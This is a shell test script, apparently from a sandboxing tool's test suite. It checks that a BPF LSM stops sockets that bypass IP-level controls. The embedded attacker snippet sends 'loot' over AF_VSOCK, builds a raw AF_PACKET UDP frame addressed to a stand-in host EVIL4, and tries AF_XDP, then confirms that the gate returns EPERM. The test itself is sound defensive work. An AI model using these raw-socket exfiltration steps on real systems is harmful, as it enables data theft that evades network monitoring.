#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: makes sockets that leave without IP: AF_VSOCK to a listener on the machine, AF_PACKET and AF_XDP
# stopped-by: lsm
# reason: socket_type, packet_socket
# kernels: >= 6.1: the LSM's hook of a cgroup; below, and where the BPF LSM is off, it is for the interface
#
# No hook of a cgroup sees what such sockets send: they must not come about. What the listener got counts.
. "$(dirname "$0")/lib.sh"
arena udp/9000
[[ $("$KVGATE" doctor) =~ yes\ +BPF\ LSM ]] || skip "the BPF LSM is not on, or not for us (needs Linux 6.1)"
modprobe -q vsock_loopback 2>/dev/null || true

HEARD=$SCRATCH/heard
cat >"$SCRATCH/listen.py" <<'PYTHON'
import socket
listener = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
listener.bind((socket.VMADDR_CID_ANY, 9000))
listener.listen()
print("ready", flush=True)
while True:
    connection, _ = listener.accept()
    print(connection.recv(100).decode(), flush=True)
PYTHON
spawn python3 "$SCRATCH/listen.py" >"$HEARD" 2>/dev/null
wait_for 3 grep -q ready "$HEARD" || skip "no AF_VSOCK in this kernel"

attack_by <<'PYTHON'
from attacker import *

with attempt("vsock"):
    sock = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    sock.settimeout(1)
    sock.connect((1, 9000)) # VMADDR_CID_LOCAL
    sock.sendall(loot("vsock"))
with attempt("packet"):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind(("eth0", 0))
    sock.send(b"\xff" * 6 + b"\2\0\0\0\0\7\x08\x00" + ip4(EVIL4, 17, udp_body(EVIL4, 9000, loot("packet"))))
with attempt("xdp"):
    socket.socket(44, socket.SOCK_RAW, 0)
PYTHON
next_run
launch
grep -q '^vsock done' <<<"$SAID" || skip "AF_VSOCK does not lead to the machine itself here: $SAID"
all_arrived stolen:packet
wait_for 3 grep -q "stolen:vsock:$ROUND" "$HEARD" || fail "nothing was heard: $SAID"
gate
stopped
holds "$SAID" '^vsock EPERM'
holds "$SAID" '^xdp (EPERM|EAFNOSUPPORT)'
grep -q "stolen:vsock:$ROUND" "$HEARD" && fail "heard: $(cat "$HEARD")"
recorded sock_create socket_type
recorded sock_create packet_socket
